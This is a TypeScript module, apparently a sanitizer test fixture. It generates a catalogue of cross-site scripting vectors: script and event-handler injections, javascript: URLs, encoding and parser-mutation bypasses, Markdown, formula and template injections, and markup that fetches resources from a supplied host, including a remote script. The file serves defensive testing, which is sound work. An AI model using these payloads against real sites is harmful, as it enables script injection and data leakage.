/**
 * What people could write where only words belong: markup that runs script, that fetches, or that leads away. By what it leans on, after
 * the families of OWASP's and DOMPurify's lists. Each begins with its own name, so that a page can be asked whether it shows it.
 */
export type Does =
	/** Runs script. */
	| 'runs'
	/** Fetches from elsewhere. */
	| 'fetches'
	/** Leads away from the page or only knocks at another's door: no content policy forbids it. */
	| 'leaves';

export interface Vector {
	/** Stands in front of it. */
	name: string;
	does: Does;
	text: string;
}

/** `js`: notes that it ran; no quotes, spaces or angle brackets in it. `away`: an address of another's, without its scheme. */
type Write = (js: string, away: string) => string;

const encoded = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');

const runs: Write[] = [
	// The element that is meant for it, and how lists of forbidden words are got around.
	(js) => `<script>${js}</script>`,
	(js) => `<ScRiPt\t>${js}</sCrIpT\n>`,
	(js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
	(js) => `"'><script>${js}</script>`,
	(js) => `</textarea></title></style></noscript>--><script>${js}</script>`,
	(js) => `]]><script>${js}</script>`,
	(js) => `<script type=module>${js}</script>`,
	(js) => `<svg><script>${encoded(js)}</script></svg>`,
	(js) => `<script src=data:text/javascript,${encodeURIComponent(js)}></script>`,
	(_js, away) => `<script src=//${away}/script.js></script>`,
	// Handlers.
	(js) => `<img src=x onerror=${js}>`,
	(js) => `<img src="x" OnErRoR = "${encoded(js)}">`,
	(js) => `<img/src=x/onerror=${js}//`,
	(js) => `<img src=x onerror\n=\n${js}>`,
	(js) => `<img srcset="x,x" onerror=${js}>`,
	(js) => `<input type=image src=x onerror=${js}>`,
	(js) => `<video><source onerror=${js}></video>`,
	(js) => `<video src=x onerror=${js}></video>`,
	(js) => `<audio src=x onerror=${js}></audio>`,
	(js) => `<object data=x onerror=${js}></object>`,
	(js) => `<link rel=stylesheet href=/nothing.css onerror=${js}>`,
	(js) => `<svg onload=${js}></svg>`,
	(js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
	(js) => `<svg><image href=x onerror=${js}></svg>`,
	(js) => `<details open ontoggle=${js}>`,
	(js) => `<input autofocus onfocus=${js}>`,
	(js) => `<textarea autofocus onfocus=${js}></textarea>`,
	(js) => `<xss onfocus=${js} autofocus tabindex=1>`,
	(js) => `<xss onclick=${js} tabindex=1>click</xss>`,
	(js) => `<u onclick=${js}>click</u>`,
	(js) => `<marquee onstart=${js}>.</marquee>`,
	(js) => `<style>@keyframes k{}</style><i style=animation-name:k onanimationstart=${js}>.</i>`,
	(js) => `<iframe onload=${js}></iframe>`,
	(js) => `<body onload=${js} onpageshow=${js}>`,
	// Frames and documents of their own.
	(js) => `<iframe src=javascript:${js}></iframe>`,
	(js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
	(js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
	(js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
	(js) => `<embed src=javascript:${js}>`,
	(js) => `<object data=javascript:${js}></object>`,
	// Addresses that are script.
	(js) => `<a href=javascript:${js}>click</a>`,
	(js) => `<a href="JaVa&Tab;ScRiPt&colon;${js}">click</a>`,
	(js) => `<a href="\u0001 javascript:${js}">click</a>`,
	(js) => `<a href="${encoded(`javascript:${js}`)}">click</a>`,
	(js) => `<a target=_self href="data:text/html,<script>${js}</script>">click</a>`,
	(js) => `<svg><a xlink:href=javascript:${js}><text y=9>click</text></a></svg>`,
	(js) => `<math><mtext href=javascript:${js}>click</mtext></math>`,
	(js) => `<form action=javascript:${js}><button>click</button></form>`,
	(js) => `<form id=f></form><button form=f formaction=javascript:${js}>click</button>`,
	(js) =>
		`<svg><set href=#a attributeName=href to=javascript:${js} /><a id=a><text y=9>click</text></a></svg>`,
	// What is parsed once and written again means something else.
	(js) =>
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
	(js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
	(js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
	(js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
	(js) => `<svg><desc><![CDATA[</desc><img src=x onerror=${js}>]]></svg>`,
	(js) =>
		`<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${js}>">`,
	(js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
	(js) =>
		`<table><caption><svg><title><style><img src=x onerror=${js}></style></title></svg></caption></table>`,
	// Markdown, formulas and templates.
	(js) => `[click](javascript:${js})`,
	(js) => `[click](<java\tscript:${js}>)`,
	(js) => `<javascript:${js}>`,
	(js) => `![x](javascript:${js})`,
	(js) => `![x](x "t\\" onerror=${js} ")`,
	(js) => `![" onerror=${js} "](media:x)`,
	(js) => `$\\href{javascript:${js}}{click}$`,
	(js) => `$\\htmlData{a=b}{x}\\text{<img src=x onerror=${js}>}$`,
	(js) => `<sub><img src=x onerror=${js}></sub>`,
	(js) => `[[<img src=x onerror=${js}>]]`,
	(js) => `{@html '<img src=x onerror=${js}>'}{{constructor.constructor('${js}')()}}`,
	(js) => `=HYPERLINK("javascript:${js}","click")`
];

const fetches: Write[] = [
	(_js, away) => `<img src=//${away}/img>`,
	(_js, away) => `<img srcset="//${away}/srcset 1x">`,
	(_js, away) => `<picture><source srcset=//${away}/source><img></picture>`,
	(_js, away) => `<video poster=//${away}/poster></video>`,
	(_js, away) => `<audio autoplay src=//${away}/audio></audio>`,
	(_js, away) => `<video src=/x><track default src=//${away}/track></video>`,
	(_js, away) => `<input type=image src=//${away}/input>`,
	(_js, away) => `<svg><image href=//${away}/svg-image /></svg>`,
	(_js, away) => `<svg><use href=//${away}/use#a /></svg>`,
	(_js, away) => `<iframe src=//${away}/iframe></iframe>`,
	(_js, away) => `<object data=//${away}/object></object>`,
	(_js, away) => `<embed src=//${away}/embed>`,
	(_js, away) => `<link rel=stylesheet href=//${away}/sheet>`,
	(_js, away) => `<link rel=preload as=image href=//${away}/preload>`,
	(_js, away) => `<link rel=prefetch href=//${away}/prefetch>`,
	(_js, away) => `<link rel=modulepreload href=//${away}/modulepreload>`,
	(_js, away) => `<link rel=manifest href=//${away}/manifest>`,
	(_js, away) => `<style>@import "//${away}/import";</style>`,
	(_js, away) =>
		`<style>@font-face{font-family:f;src:url(//${away}/font)}</style><i style=font-family:f>f</i>`,
	(_js, away) => `<i style="background:url(//${away}/style)">.</i>`,
	(_js, away) => `<table background=//${away}/table><td>.</table>`,
	(_js, away) => `<base href=//${away}/base/><img src=picture>`,
	(_js, away) => `<form action=//${away}/form><input name=a value=b><button>click</button></form>`,
	(_js, away) => `<a href=#x ping=//${away}/ping>click</a>`,
	(_js, away) =>
		`<script type=speculationrules>{"prefetch":[{"urls":["http://${away}/speculated"]}]}</script>`,
	(_js, away) => `![x](http://${away}/markdown)`,
	(_js, away) => `$\\includegraphics{http://${away}/formula}$`
];

const leaves: Write[] = [
	(_js, away) => `<meta http-equiv=refresh content="0;url=//${away}/refresh">`,
	(_js, away) => `<a href=//${away}/link>click</a>`,
	(_js, away) => `<link rel=preconnect href=//${away}>`,
	(_js, away) => `[click](http://${away}/link)`
];

/** `host`: where whatever comes is noticed. */
export function vectorsTo(host: string): Vector[] {
	const kinds: [Does, Write[]][] = [
		['runs', runs],
		['fetches', fetches],
		['leaves', leaves]
	];
	return kinds
		.flatMap(([does, list]) => list.map((write) => ({ does, write })))
		.map(({ does, write }, at) => ({
			name: `v${at}:`,
			does,
			text: `v${at}:${write(`(top.ran??=[]).push(${at})`, `${host}/v${at}`)}`
		}));
}
